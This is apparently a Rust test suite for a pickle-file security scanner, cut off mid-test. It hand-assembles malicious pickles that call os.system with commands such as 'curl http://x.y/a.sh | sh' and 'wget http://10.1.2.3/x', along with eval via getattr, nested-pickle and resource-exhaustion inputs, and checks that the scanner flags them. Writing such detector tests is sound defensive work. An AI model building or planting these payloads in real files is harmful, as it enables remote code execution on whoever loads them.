//! End-to-end tests of the symbolic machine on hand-assembled pickles.

use aigis_pickle::{LimitKind, Limits, Options, PickleScan, ProblemKind, Risk, VerdictKind, scan};

/// A tiny pickle assembler.
#[derive(Default, Clone)]
struct P(Vec<u8>);

impl P {
    fn new() -> Self {
        Self::default()
    }
    fn raw(mut self, b: &[u8]) -> Self {
        self.0.extend_from_slice(b);
        self
    }
    fn op(self, code: u8) -> Self {
        self.raw(&[code])
    }
    fn proto(self, n: u8) -> Self {
        self.raw(&[0x80, n])
    }
    fn global(self, module: &str, name: &str) -> Self {
        self.raw(format!("c{module}\n{name}\n").as_bytes())
    }
    fn inst(self, module: &str, name: &str) -> Self {
        self.raw(format!("i{module}\n{name}\n").as_bytes())
    }
    fn string0(self, s: &str) -> Self {
        self.raw(format!("S'{s}'\n").as_bytes())
    }
    fn ustr(self, s: &str) -> Self {
        let b = s.as_bytes();
        if b.len() < 256 {
            self.raw(&[0x8c, b.len() as u8]).raw(b)
        } else {
            self.raw(b"X").raw(&(b.len() as u32).to_le_bytes()).raw(b)
        }
    }
    fn binunicode(self, s: &str) -> Self {
        self.raw(b"X")
            .raw(&(s.len() as u32).to_le_bytes())
            .raw(s.as_bytes())
    }
    fn binunicode8(self, s: &str) -> Self {
        self.raw(&[0x8d])
            .raw(&(s.len() as u64).to_le_bytes())
            .raw(s.as_bytes())
    }
    fn bytes(self, b: &[u8]) -> Self {
        if b.len() < 256 {
            self.raw(&[b'C', b.len() as u8]).raw(b)
        } else {
            self.raw(b"B").raw(&(b.len() as u32).to_le_bytes()).raw(b)
        }
    }
    fn int(self, n: u8) -> Self {
        self.raw(&[b'K', n])
    }
    fn binint(self, n: i32) -> Self {
        self.raw(b"J").raw(&n.to_le_bytes())
    }
    fn binput(self, i: u8) -> Self {
        self.raw(&[b'q', i])
    }
    fn binget(self, i: u8) -> Self {
        self.raw(&[b'h', i])
    }
    fn frame(self, len: u64) -> Self {
        self.raw(&[0x95]).raw(&len.to_le_bytes())
    }
    fn tuple1(self) -> Self {
        self.op(0x85)
    }
    fn tuple2(self) -> Self {
        self.op(0x86)
    }
    fn tuple3(self) -> Self {
        self.op(0x87)
    }
    fn reduce(self) -> Self {
        self.op(b'R')
    }
    fn stop(self) -> Self {
        self.op(b'.')
    }
    fn len(&self) -> u64 {
        self.0.len() as u64
    }
    /// `os.system(cmd)` in protocol 2.
    fn payload(cmd: &str) -> Self {
        P::new()
            .proto(2)
            .global("os", "system")
            .ustr(cmd)
            .tuple1()
            .reduce()
            .stop()
    }
}

fn run(p: &P) -> PickleScan {
    scan(&p.0[..], 0, &Options::default())
}

fn run_with(p: &P, limits: Limits) -> PickleScan {
    scan(
        &p.0[..],
        0,
        &Options {
            limits,
            ..Options::default()
        },
    )
}

fn critical(r: &PickleScan) -> Vec<&str> {
    r.verdicts
        .iter()
        .filter(|v| v.risk == Risk::Critical)
        .map(|v| v.message.as_str())
        .collect()
}

fn assert_clean(r: &PickleScan) {
    assert!(
        r.verdicts.is_empty(),
        "unexpected verdicts: {:#?}",
        r.verdicts
    );
    assert!(r.problem.is_none(), "unexpected problem: {:?}", r.problem);
}

// ---- protocol 0 / 1 text opcodes ------------------------------------------------------

#[test]
fn proto0_global_string_reduce() {
    let p = P::new()
        .global("os", "system")
        .op(b'(')
        .string0("curl http://x.y/a.sh | sh")
        .op(b't');
    let reduce_at = p.len();
    let p = p.reduce().stop();
    let r = run(&p);
    assert!(r.problem.is_none());
    let v = &r.verdicts[0];
    assert_eq!(v.risk, Risk::Critical);
    assert_eq!(v.kind, VerdictKind::DangerousCall);
    assert_eq!(v.offset, reduce_at);
    assert!(
        v.message
            .starts_with("loading calls os.system('curl http://x.y/a.sh | sh')"),
        "{}",
        v.message
    );
    assert!(v.iocs.contains(&"http://x.y/a.sh".to_owned()));
    assert!(v.iocs.contains(&"curl http://x.y/a.sh | sh".to_owned()));
    assert_eq!(r.globals[0].to_string(), "os.system");
    assert_eq!(r.streams.len(), 1);
    assert_eq!(r.end, p.len());
}

#[test]
fn proto0_string_escapes_and_unicode() {
    let p = P::new()
        .global("os", "system")
        .op(b'(')
        .raw(b"S'echo \\'hi\\'\\n'\n")
        .op(b't')
        .reduce()
        .stop();
    let r = run(&p);
    assert_eq!(
        critical(&r)[0],
        "loading calls os.system(\"echo 'hi'\\n\") — command execution"
    );
    let p = P::new()
        .global("os", "system")
        .op(b'(')
        .raw(b"Vtouch \\u00e9\n")
        .op(b't')
        .reduce()
        .stop();
    assert!(critical(&run(&p))[0].contains("os.system('touch \u{e9}')"));
}

#[test]
fn proto0_inst_and_proto1_obj() {
    let p = P::new().op(b'(').string0("id").inst("os", "system").stop();
    assert!(critical(&run(&p))[0].starts_with("loading calls os.system('id')"));
    let p = P::new()
        .op(b'(')
        .global("os", "system")
        .string0("id")
        .op(b'o')
        .stop();
    assert!(critical(&run(&p))[0].starts_with("loading calls os.system('id')"));
    // An old-style class instance without arguments is a construction.
    let p = P::new().op(b'(').inst("mymodule", "Thing").stop();
    let r = run(&p);
    assert_eq!(r.verdicts.len(), 1);
    assert_eq!(r.verdicts[0].kind, VerdictKind::UnknownClass);
    assert_eq!(r.verdicts[0].risk, Risk::Medium);
}

#[test]
fn invalid_names_are_structural_errors() {
    let p = P::new().raw(b"cos system\nx\n").stop();
    let r = run(&p);
    assert!(matches!(
        r.problem.map(|p| p.kind),
        Some(ProblemKind::BadArgument(_))
    ));
}

// ---- protocol 2 ------------------------------------------------------------------------

#[test]
fn proto2_newobj_classes() {
    let p = P::new()
        .proto(2)
        .global("__main__", "Net")
        .op(b')')
        .op(0x81)
        .op(b'}')
        .op(b'b')
        .stop();
    let r = run(&p);
    assert_eq!(r.verdicts.len(), 1, "{:#?}", r.verdicts);
    assert_eq!(r.verdicts[0].kind, VerdictKind::UnknownClass);
    assert_eq!(r.verdicts[0].callee.as_deref(), Some("__main__.Net"));
    let p = P::new()
        .proto(2)
        .global("torch.nn.modules.linear", "Linear")
        .op(b')')
        .op(0x81)
        .op(b'}')
        .op(b'b')
        .stop();
    assert_clean(&run(&p));
}

/// `copyreg.add_extension(module, name, 66)`, then EXT1 66 called with `'id'`.
fn registered_extension_call(module: &str, name: &str) -> P {
    P::new()
        .proto(2)
        .global("copyreg", "add_extension")
        .ustr(module)
        .ustr(name)
        .int(66)
        .tuple3()
        .reduce()
        .op(b'0')
        .raw(&[0x82, 66])
        .ustr("id")
        .tuple1()
        .reduce()
        .stop()
}

#[test]
fn ext1_resolved_through_add_extension() {
    let r = run(&registered_extension_call("os", "system"));
    let c = critical(&r);
    assert!(
        c.iter()
            .any(|m| m.starts_with("loading calls os.system('id')")),
        "{c:?}"
    );
}

#[test]
fn unresolved_extension_is_high() {
    let p = P::new()
        .proto(2)
        .raw(&[0x83, 0x34, 0x12])
        .op(b')')
        .reduce()
        .stop();
    let r = run(&p);
    assert!(
        r.verdicts
            .iter()
            .any(|v| v.kind == VerdictKind::UnresolvedExtension && v.risk == Risk::High)
    );
}

#[test]
fn memo_sharing_binput_binget() {
    let p = P::new()
        .proto(2)
        .global("os", "system")
        .binput(0)
        .op(b'0')
        .binget(0)
        .ustr("id")
        .tuple1()
        .reduce()
        .stop();
    assert!(critical(&run(&p))[0].starts_with("loading calls os.system('id')"));
    let p = P::new().proto(2).binget(9).stop();
    assert_eq!(
        run(&p).problem.map(|p| p.kind),
        Some(ProblemKind::MemoMiss(9))
    );
}

// ---- protocol 4 / 5 --------------------------------------------------------------------

#[test]
fn stack_global_names_from_memo() {
    let p = P::new()
        .proto(4)
        .ustr("os")
        .op(0x94)
        .op(b'0')
        .ustr("system")
        .op(0x94)
        .op(b'0')
        .binget(0)
        .binget(1)
        .op(0x93)
        .binunicode8("id")
        .tuple1()
        .reduce()
        .stop();
    assert!(critical(&run(&p))[0].starts_with("loading calls os.system('id')"));
}

#[test]
fn stack_global_names_from_proto0_strings() {
    let p = P::new()
        .proto(4)
        .string0("torch")
        .string0("os.system")
        .op(0x93)
        .binunicode("id")
        .tuple1()
        .reduce()
        .stop();
    assert!(critical(&run(&p))[0].starts_with("loading calls torch.os.system('id')"));
}

#[test]
fn stack_global_with_computed_name_is_high() {
    let p = P::new()
        .proto(4)
        .global("builtins", "str")
        .ustr("os")
        .tuple1()
        .op(b'R')
        .global("mod", "f")
        .op(b')')
        .reduce()
        .op(0x93)
        .op(b')')
        .reduce()
        .stop();
    let r = run(&p);
    assert!(
        r.verdicts
            .iter()
            .any(|v| v.kind == VerdictKind::DynamicImport && v.risk == Risk::High),
        "{:#?}",
        r.verdicts
    );
}

#[test]
fn frames_with_wrong_lengths_do_not_change_decoding() {
    for declared in [2u64, 5, 1 << 40] {
        let body = P::new()
            .global("os", "system")
            .ustr("id")
            .tuple1()
            .reduce()
            .stop();
        let p = P::new().proto(4).frame(declared).raw(&body.0);
        let r = run(&p);
        assert!(
            critical(&r)[0].starts_with("loading calls os.system('id')"),
            "declared {declared}"
        );
        assert!(
            r.verdicts.iter().any(|v| v.kind == VerdictKind::Anomaly),
            "declared {declared}"
        );
    }
    // A correct frame is not an anomaly.
    let body = P::new().ustr("a").stop();
    let p = P::new().proto(4).frame(body.len()).raw(&body.0);
    assert_clean(&run(&p));
}

#[test]
fn proto5_buffers_and_bytearray8() {
    let p = P::new()
        .proto(5)
        .op(b'(')
        .raw(&[0x96])
        .raw(&3u64.to_le_bytes())
        .raw(b"abc")
        .op(0x97)
        .op(0x97)
        .op(0x98)
        .op(b'l')
        .stop();
    assert_clean(&run(&p));
}

// ---- attribute access, dotted names ------------------------------------------------------

#[test]
fn getattr_on_a_module_global_resolves() {
    let p = P::new()
        .proto(2)
        .global("builtins", "getattr")
        .global("codecs", "builtins")
        .ustr("eval")
        .tuple2()
        .reduce()
        .ustr("1+1")
        .tuple1()
        .reduce()
        .stop();
    let r = run(&p);
    let c = critical(&r);
    assert_eq!(c.len(), 1, "{:#?}", r.verdicts);
    assert!(
        c[0].starts_with("loading calls codecs.builtins.eval('1+1')"),
        "{}",
        c[0]
    );
    // Not invoked: a dangerous reference.
    let p = P::new()
        .proto(2)
        .global("__builtin__", "getattr")
        .global("torch", "serialization")
        .ustr("pickle")
        .tuple2()
        .reduce()
        .stop();
    let r = run(&p);
    assert!(
        r.verdicts
            .iter()
            .any(|v| v.kind == VerdictKind::DangerousReference),
        "{:#?}",
        r.verdicts
    );
}

#[test]
fn getattr_on_a_computed_object_is_reported_when_called() {
    let p = P::new()
        .proto(2)
        .global("builtins", "getattr")
        .global("mylib", "Thing")
        .op(b')')
        .reduce()
        .ustr("run")
        .tuple2()
        .reduce()
        .op(b')')
        .reduce()
        .stop();
    let r = run(&p);
    assert!(
        r.verdicts
            .iter()
            .any(|v| v.risk == Risk::High && v.message.contains("mylib.Thing().run()")),
        "{:#?}",
        r.verdicts
    );
}

#[test]
fn dotted_names_match_any_suffix() {
    for (m, n) in [
        ("pathlib", "os.system"),
        ("torch", "os.system"),
        ("numpy", "testing._private.utils.runstring"),
    ] {
        let p = P::new()
            .proto(2)
            .global(m, n)
            .ustr("x")
            .tuple1()
            .reduce()
            .stop();
        assert_eq!(critical(&run(&p)).len(), 1, "{m}.{n}");
    }
}

// ---- streams -------------------------------------------------------------------------------

#[test]
fn concatenated_pickles_payload_in_second() {
    let first = P::new().proto(2).op(b'}').stop();
    let p = first.clone().raw(&P::payload("id").0);
    let r = run(&p);
    assert_eq!(r.streams.len(), 2);
    assert_eq!(r.streams[1].start, first.len());
    assert_eq!(r.end, p.len());
    assert!(critical(&r)[0].starts_with("loading calls os.system('id')"));
}

#[test]
fn trailing_non_pickle_bytes_stop_quietly() {
    let first = P::new().proto(2).op(b'}').stop();
    for tail in [
        &b"\x10\x00\x00\x00\x00\x00\x00\x00raw"[..],
        b"(\x00\x00",
        b"",
    ] {
        let p = first.clone().raw(tail);
        let r = run(&p);
        assert_clean(&r);
        assert_eq!(r.end, first.len());
    }
}

#[test]
fn truncated_after_payload_reports_both() {
    let p = P::new()
        .proto(2)
        .global("os", "system")
        .ustr("id")
        .tuple1()
        .reduce()
        .op(b'(');
    let r = run(&p);
    assert_eq!(critical(&r).len(), 1);
    assert_eq!(r.problem.map(|p| p.kind), Some(ProblemKind::Truncated));
}

#[test]
fn nested_pickle_loads_is_scanned() {
    let inner = P::payload("id");
    let p = P::new().proto(2).global("pickle", "loads");
    let data_at = p.len() + 5; // 'B' + u32 length
    let p = p
        .bytes(&[inner.0.clone(), vec![b' '; 300]].concat())
        .tuple1()
        .reduce()
        .stop();
    let r = run(&p);
    let c = critical(&r);
    assert!(
        c.iter()
            .any(|m| m.starts_with("loading calls pickle.loads(b'\\x80")),
        "{c:?}"
    );
    let nested = r
        .verdicts
        .iter()
        .find(|v| {
            v.message.starts_with(&format!(
                "nested pickle at byte {data_at}: loading calls os.system('id')"
            ))
        })
        .unwrap_or_else(|| panic!("{:#?}", r.verdicts));
    assert_eq!(nested.risk, Risk::Critical);
    assert!(nested.offset > data_at);
}

#[test]
fn nested_pickle_through_bytesio() {
    let inner = P::payload("id");
    let p = P::new()
        .proto(2)
        .global("torch", "load")
        .global("io", "BytesIO")
        .bytes(&inner.0)
        .tuple1()
        .reduce()
        .tuple1()
        .reduce()
        .stop();
    let r = run(&p);
    assert!(
        r.verdicts
            .iter()
            .any(|v| v.message.contains("nested pickle") && v.message.contains("os.system('id')"))
    );
    // The allow-listed torch helper: only the content decides.
    let benign = P::new().proto(2).op(b'}').stop();
    let p = P::new()
        .proto(2)
        .global("torch.storage", "_load_from_bytes")
        .bytes(&benign.0)
        .tuple1()
        .reduce()
        .stop();
    let r = run(&p);
    assert!(
        r.verdicts.iter().all(|v| v.risk == Risk::Info),
        "{:#?}",
        r.verdicts
    );
}

#[test]
fn nesting_depth_is_limited() {
    let mut p = P::payload("id");
    for _ in 0..12 {
        p = P::new()
            .proto(2)
            .global("pickle", "loads")
            .bytes(&p.0)
            .tuple1()
            .reduce()
            .stop();
    }
    let r = run(&p);
    assert_eq!(
        r.problem.map(|p| p.kind),
        Some(ProblemKind::LimitExceeded {
            which: LimitKind::Nesting
        })
    );
}

// ---- joblib -------------------------------------------------------------------------------

fn joblib_wrapper(p: P, dtype: &str, shape: &[u8], aligned: bool) -> P {
    let mut p = p
        .global("joblib.numpy_pickle", "NumpyArrayWrapper")
        .op(b')')
        .op(0x81)
        .op(b'}')
        .op(b'(')
        .ustr("subclass")
        .global("numpy", "ndarray")
        .ustr("shape")
        .op(b'(');
    for &d in shape {
        p = p.int(d);
    }
    p = p
        .op(b't')
        .ustr("order")
        .ustr("C")
        .ustr("dtype")
        .global("numpy", "dtype")
        .ustr(dtype)
        .op(0x89)
        .op(0x88)
        .tuple3()
        .reduce()
        .op(b'(')
        .int(3)
        .ustr("<")
        .op(b'N')
        .op(b'N')
        .op(b'N')
        .binint(-1)
        .binint(-1)
        .int(0)
        .op(b't')
        .op(b'b')
        .ustr("allow_mmap")
        .op(0x88);
    if aligned {
        p = p.ustr("numpy_array_alignment_bytes").int(16);
    }
    p.op(b'u').op(b'b')
}

#[test]
fn joblib_arrays_are_skipped() {
    let p = joblib_wrapper(P::new().proto(4).op(b'(').op(b']'), "f8", &[2, 3], true);
    // Padding length 5, padding, then 48 bytes that look like opcodes.
    let p = p
        .raw(&[5, 0, 0, 0, 0, 0])
        .raw(&b"cos\nsystem\n".repeat(5)[..48]);
    let p = p
        .op(b'a')
        .global("os", "system")
        .ustr("id")
        .tuple1()
        .reduce()
        .op(b'a')
        .stop();
    let r = run(&p);
    assert!(r.problem.is_none(), "{:?}", r.problem);
    assert_eq!(r.joblib_arrays, 1);
    let c = critical(&r);
    assert_eq!(c.len(), 1, "{:#?}", r.verdicts);
    assert!(c[0].starts_with("loading calls os.system('id')"));
}

#[test]
fn joblib_object_arrays_hold_a_pickle() {
    let p = joblib_wrapper(P::new().proto(4), "O8", &[1], false);
    let p = p.raw(&P::payload("id").0).op(b'0').ustr("after").stop();
    let r = run(&p);
    assert!(r.problem.is_none(), "{:?}", r.problem);
    assert_eq!(critical(&r).len(), 1);
}

#[test]
fn joblib_unknown_size_is_a_problem() {
    let p = joblib_wrapper(P::new().proto(4), "x9", &[1], false).stop();
    let r = run(&p);
    assert!(matches!(
        r.problem.map(|p| p.kind),
        Some(ProblemKind::Joblib(_))
    ));
}

// ---- hostile input --------------------------------------------------------------------------

#[test]
fn billion_laughs_stays_linear() {
    let mut p = P::new().proto(2).ustr("lol").binput(0);
    for i in 1..=60u8 {
        p = p.op(b'(');
        for _ in 0..10 {
            p = p.binget(i - 1);
        }
        p = p.op(b'l').binput(i);
    }
    // Returned, the structure is reported with its expansion; the load itself stays small.
    let bomb = p.clone().binget(60).stop();
    let r = run(&bomb);
    let anomalies: Vec<_> = r
        .verdicts
        .iter()
        .filter(|v| v.kind == VerdictKind::Anomaly && v.risk == Risk::Medium)
        .collect();
    assert_eq!(anomalies.len(), 1, "{:#?}", r.verdicts);
    assert!(
        anomalies[0].message.contains("billion laughs"),
        "{}",
        anomalies[0].message
    );
    // Nine levels of ten: a billion references from ten values...
    let mut ten = P::new().proto(2).ustr("lol").binput(0);
    for i in 1..=9u8 {
        ten = ten.op(b'(');
        for _ in 0..10 {
            ten = ten.binget(i - 1);
        }
        ten = ten.op(b'l').binput(i);
    }
    assert_eq!(run(&ten.clone().binget(9).stop()).verdicts.len(), 1);
    // ...while a thousand references to one tuple is ordinary sharing.
    let mut shared = P::new().proto(2).ustr("x").tuple1().binput(0).op(b'(');
    for _ in 0..1_000 {
        shared = shared.binget(0);
    }
    assert_clean(&run(&shared.op(b'l').stop()));

    let p = p.global("os", "system").binget(60).tuple1().reduce().stop();
    let started = std::time::Instant::now();
    let r = run(&p);
    assert!(started.elapsed().as_secs() < 5);
    assert_eq!(critical(&r).len(), 1);
    assert!(critical(&r)[0].chars().count() < 600);
    let limited = run_with(
        &p,
        Limits {
            max_values: 10,
            ..Limits::default()
        },
    );
    assert_eq!(
        limited.problem.map(|p| p.kind),
        Some(ProblemKind::LimitExceeded {
            which: LimitKind::Values
        })
    );
}

#[test]
fn deep_nesting_hits_limits_without_recursion() {
    let p = P::new().raw(&vec![b'('; 2_000_000]);
    assert_eq!(
        run(&p).problem.map(|p| p.kind),
        Some(ProblemKind::LimitExceeded {
            which: LimitKind::Stack
        })
    );
    let n = 300_000;
    let p = P::new()
        .proto(2)
        .raw(&vec![b']'; n])
        .raw(&vec![b'a'; n - 1])
        .stop();
    assert_clean(&run(&p));
    let n = 300_000;
    let mut p = P::new().proto(2).op(b'N');
    for _ in 0..n {
        p = p.tuple1();
    }
    let p = p
        .global("os", "system")
        .op(b'(')
        .op(b'2')
        .op(b't')
        .op(b'0')
        .stop();
    let r = run(&p);
    assert!(r.problem.is_some() || !r.verdicts.is_empty());
}

#[test]
fn huge_declared_lengths_are_rejected_without_allocation() {
    for p in [
        P::new()
            .proto(4)
            .raw(&[0x8e])
            .raw(&(1u64 << 63).to_le_bytes()),
        P::new().proto(4).raw(&[0x8d]).raw(&u64::MAX.to_le_bytes()),
        P::new()
            .proto(5)
            .raw(&[0x96])
            .raw(&(1u64 << 62).to_le_bytes()),
        P::new().proto(2).raw(&[0x8b]).raw(&(-5i32).to_le_bytes()),
        P::new().proto(2).raw(b"T").raw(&i32::MAX.to_le_bytes()),
    ] {
        let r = run(&p);
        assert!(matches!(
            r.problem.map(|p| p.kind),
            Some(ProblemKind::BadLength(_))
        ));
    }
}

#[test]
fn large_constants_are_skipped_not_read() {
    let big = vec![b'z'; 3 << 20];
    let p = P::new()
        .proto(4)
        .raw(&[0x8e])
        .raw(&(big.len() as u64).to_le_bytes())
        .raw(&big)
        .op(b'0')
        .raw(&P::payload("id").0[2..]);
    let r = run(&p);
    assert_eq!(critical(&r).len(), 1);
    assert!(
        r.bytes_consumed < 512 * 1024,
        "read {} bytes",
        r.bytes_consumed
    );
}

#[test]
fn opcode_limit() {
    let p = P::new().proto(2).raw(&vec![b'N'; 1000]).stop();
    let r = run_with(
        &p,
        Limits {
            max_opcodes: 100,
            ..Limits::default()
        },
    );
    assert_eq!(
        r.problem.map(|p| p.kind),
        Some(ProblemKind::LimitExceeded {
            which: LimitKind::Opcodes
        })
    );
}

#[test]
fn bad_protocol_and_empty_input() {
    assert_eq!(
        run(&P::new().proto(9)).problem.map(|p| p.kind),
        Some(ProblemKind::UnsupportedProtocol(9))
    );
    assert_eq!(
        run(&P::new()).problem.map(|p| p.kind),
        Some(ProblemKind::Truncated)
    );
}

// ---- benign ----------------------------------------------------------------------------------

#[test]
fn plain_data_in_every_protocol_is_clean() {
    // Protocol 0: {'key': [1, 2.5, 'x', None, True], u'\u00e9': 12345678901234567890L}
    let p0 = P::new().raw(b"(dp0\nVkey\np1\n(lp2\nI1\naF2.5\naS'x'\np3\naNaI01\nasV\\u00e9\nL12345678901234567890L\ns.");
    // Protocol 1: a tuple of ints and a memoized string reused.
    let p1 = P::new().raw(b"(K\x01M\x00\x01J\xff\xff\xff\xffU\x03abcq\x00h\x00tq\x01.");
    // Protocol 2: dict with LONG1 and a tuple, NEWTRUE.
    let p2 = P::new()
        .proto(2)
        .op(b'}')
        .binput(0)
        .op(b'(')
        .binunicode("n")
        .raw(&[0x8a, 2, 0xff, 0x7f])
        .binunicode("t")
        .int(1)
        .op(0x88)
        .tuple2()
        .op(b'u')
        .stop();
    // Protocol 3: bytes.
    let p3 = P::new().proto(3).bytes(b"\x00\x01data").stop();
    // Protocol 4: framed set/frozenset.
    let body = P::new()
        .op(0x8f)
        .op(b'(')
        .int(1)
        .int(2)
        .op(0x90)
        .op(b'(')
        .int(3)
        .op(0x91)
        .tuple2()
        .stop();
    let p4 = P::new().proto(4).frame(body.len()).raw(&body.0);
    // Protocol 5: bytearray.
    let p5 = P::new()
        .proto(5)
        .raw(&[0x96])
        .raw(&2u64.to_le_bytes())
        .raw(b"hi")
        .stop();
    for p in [p0, p1, p2, p3, p4, p5] {
        assert_clean(&run(&p));
    }
}

#[test]
fn benign_reconstructors_are_clean() {
    let od = P::new()
        .proto(2)
        .global("collections", "OrderedDict")
        .op(b')')
        .reduce()
        .stop();
    assert_clean(&run(&od));
    let codecs = P::new()
        .proto(2)
        .global("_codecs", "encode")
        .binunicode("\u{e9}t\u{e9}")
        .binunicode("latin1")
        .tuple2()
        .reduce()
        .stop();
    assert_clean(&run(&codecs));
    let py2 = P::new()
        .global("copy_reg", "_reconstructor")
        .op(b'(')
        .global("sklearn.tree._classes", "DecisionTreeClassifier")
        .global("__builtin__", "object")
        .op(b'N')
        .op(b't')
        .reduce()
        .op(b'(')
        .op(b'd')
        .op(b'b')
        .stop();
    assert_clean(&run(&py2));
}

#[test]
fn numpy_reconstruct_like_numpy_emits() {
    // numpy.array([1.0, 2.0, 3.0]) pickled with protocol 2.
    let data: Vec<u8> = [1.0f64, 2.0, 3.0]
        .iter()
        .flat_map(|f| f.to_le_bytes())
        .collect();
    let latin1: String = data.iter().map(|&b| char::from(b)).collect();
    let p = P::new()
        .proto(2)
        .global("numpy.core.multiarray", "_reconstruct")
        .binput(0)
        .global("numpy", "ndarray")
        .binput(1)
        .int(0)
        .tuple1()
        .global("_codecs", "encode")
        .binunicode("b")
        .binunicode("latin1")
        .tuple2()
        .reduce()
        .tuple3()
        .reduce()
        .op(b'(')
        .int(1)
        .int(3)
        .tuple1()
        .global("numpy", "dtype")
        .binunicode("f8")
        .op(0x89)
        .op(0x88)
        .tuple3()
        .reduce()
        .op(b'(')
        .int(3)
        .binunicode("<")
        .op(b'N')
        .op(b'N')
        .op(b'N')
        .binint(-1)
        .binint(-1)
        .int(0)
        .op(b't')
        .op(b'b')
        .op(0x89)
        .global("_codecs", "encode")
        .binunicode(&latin1)
        .binunicode("latin1")
        .tuple2()
        .reduce()
        .op(b't')
        .op(b'b')
        .stop();
    let r = run(&p);
    assert_clean(&r);
    assert!(
        r.globals
            .iter()
            .any(|g| g.to_string() == "numpy.core.multiarray._reconstruct")
    );
}

#[test]
fn partial_of_a_framework_function_is_clean_but_of_os_system_critical() {
    let ok = P::new()
        .proto(2)
        .global("functools", "partial")
        .global("torch.nn.modules.normalization", "LayerNorm")
        .tuple1()
        .reduce()
        .stop();
    assert_clean(&run(&ok));
    let bad = P::new()
        .proto(2)
        .global("functools", "partial")
        .global("os", "system")
        .ustr("id")
        .tuple2()
        .reduce()
        .stop();
    assert_eq!(critical(&run(&bad)).len(), 1);
}

#[test]
fn extra_allowed_globals() {
    let p = P::new()
        .proto(2)
        .global("mylib", "build")
        .op(b')')
        .reduce()
        .stop();
    assert_eq!(run(&p).verdicts[0].risk, Risk::High);
    let opts = Options {
        extra_allowed: vec!["mylib.build".into()],
        ..Options::default()
    };
    assert!(scan(&p.0[..], 0, &opts).verdicts.is_empty());
}

#[test]
fn extra_denied_globals_are_critical() {
    // collections.OrderedDict() is on the built-in allow-list; a policy can still forbid it.
    let p = P::new()
        .proto(2)
        .global("collections", "OrderedDict")
        .op(b')')
        .reduce()
        .stop();
    assert!(run(&p).verdicts.is_empty());
    let opts = Options {
        extra_denied: vec!["collections.*".into()],
        ..Options::default()
    };
    let r = scan(&p.0[..], 0, &opts);
    assert_eq!(r.verdicts.len(), 1, "{:?}", r.verdicts);
    assert_eq!(r.verdicts[0].risk, Risk::Critical);
    assert_eq!(r.verdicts[0].category, Some(aigis_pickle::Category::Denied));
    assert!(r.verdicts[0].message.contains("denied by policy"));
}

#[test]
fn build_on_a_global_is_state_on_global() {
    let p = P::new()
        .proto(2)
        .global("torch.nn", "Module")
        .op(b'}')
        .ustr("x")
        .int(1)
        .op(b's')
        .op(b'b')
        .stop();
    let r = run(&p);
    assert_eq!(r.verdicts[0].kind, VerdictKind::StateOnGlobal);
    assert_eq!(r.verdicts[0].risk, Risk::High);
}

#[test]
fn start_offset_and_deterministic_output() {
    let body = P::payload("wget http://10.1.2.3/x");
    let p = P::new().raw(b"HEADER").raw(&body.0);
    let a = scan(&p.0[..], 6, &Options::default());
    let b = scan(&p.0[..], 6, &Options::default());
    assert_eq!(a, b);
    assert_eq!(a.streams[0].start, 6);
    assert!(a.verdicts[0].iocs.contains(&"10.1.2.3".to_owned()));
}

mod prop {
    use super::*;
    use proptest::prelude::*;

    const OPS: &[u8] = b"(.012FIJKLMNPQRSTUVXabcdeghijlopqrstu}])G\x80\x81\x82\x83\x84\x85\x86\x87\x88\x89\x8a\x8b\x8c\x8d\x8e\x8f\x90\x91\x92\x93\x94\x95\x96\x97\x98";

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]

        #[test]
        fn arbitrary_bytes_never_panic(data in proptest::collection::vec(any::<u8>(), 0..512)) {
            let a = scan(&data[..], 0, &Options::default());
            let b = scan(&data[..], 0, &Options::default());
            prop_assert_eq!(a, b);
        }

        #[test]
        fn opcode_soup_never_panics(
            ops in proptest::collection::vec((0usize..OPS.len(), any::<u8>(), any::<bool>()), 0..300)
        ) {
            let mut data = vec![0x80, 4];
            for (i, arg, newline) in ops {
                data.push(OPS[i]);
                data.push(arg % 8);
                if newline {
                    data.extend_from_slice(b"os\nsystem\n");
                }
            }
            let a = scan(&data[..], 0, &Options::default());
            let b = scan(&data[..], 0, &Options::default());
            prop_assert_eq!(a, b);
        }
    }
}

// ---- read as CPython's loaders read (C and pure-Python unpicklers, file / BytesIO / bytes) ----

fn has_critical(r: &PickleScan, needle: &str) -> bool {
    critical(r).iter().any(|m| m.contains(needle))
}

/// `os.system('id')` in protocol 0, ending with STOP.
const P0_PAYLOAD: &[u8] = b"cos\nsystem\n(S'id'\ntR.";

#[test]
fn text_arguments_either_unpickler_accepts_do_not_stop_the_scan() {
    // Each argument is read past by a real loader (C's strtol/PyLong_FromString or Python's
    // int()/float()), so the payload after it runs.
    for arg in [
        &b"I1_000\n0"[..],
        b"I-0\n0",
        b"I-00\n0",
        b"I+5\n0",
        b"I 7 \n0",
        b"I010\n0",
        b"I5\x00junk\n0",
        b"I0x_1f\n0",
        b"L1_000L\n0",
        b"L-0L\n0",
        b"L5 L\n0",
        b"F1_000.5\n0",
        b"F1e999\n0",
        b"F 1.5\n0",
        b"F1.5\x00x\n0",
        b"F-iNfInItY\n0",
        b"Np-0\n0g0\n0",
        b"Np0_0\n0g 0 \n0",
        b"Np3\x00x\n0g3\n0",
        b"S'\\z'\n0",
        b"V\\\\u0041\n0",
    ] {
        let p = P::new().raw(arg).raw(P0_PAYLOAD);
        let r = run(&p);
        assert!(
            has_critical(&r, "os.system('id')"),
            "{}: {:#?}",
            String::from_utf8_lossy(arg),
            r
        );
        assert!(r.problem.is_none(), "{:?}: {:?}", arg, r.problem);
    }
    // And what both refuse stops the load there: the payload after it never runs.
    for arg in [
        &b"I08\n0"[..],
        b"I1__0\n0",
        b"F0x1p3\n0",
        b"S'\\'\n0",
        b"V\\u00\n0",
    ] {
        let r = run(&P::new().raw(arg).raw(P0_PAYLOAD));
        assert!(
            matches!(
                r.problem.as_ref().map(|p| &p.kind),
                Some(ProblemKind::BadArgument(_))
            ),
            "{arg:?}: {r:?}"
        );
        assert!(critical(&r).is_empty(), "{arg:?}");
    }
}

#[test]
fn a_final_line_without_newline_is_read_as_the_pure_python_unpickler_reads_it() {
    // `readline()[:-1]` at the end of the input drops the last byte, newline or not.
    let inst = run(&P::new().raw(b"(S'id'\nios\nsystemX"));
    assert!(has_critical(&inst, "os.system('id')"), "{inst:#?}");
    let inst = run(&P::new().raw(b"(S'touch /tmp/x'\nisubprocess\ncheck_output\n"));
    assert!(has_critical(&inst, "check_output"), "{inst:#?}");
    // GLOBAL at the end: imported, then the load stops.
    for tail in [
        &b"cos\nsystemX"[..],
        b"cposix\nsystem\r",
        b"cos\n",
        b"cos\nsystem",
    ] {
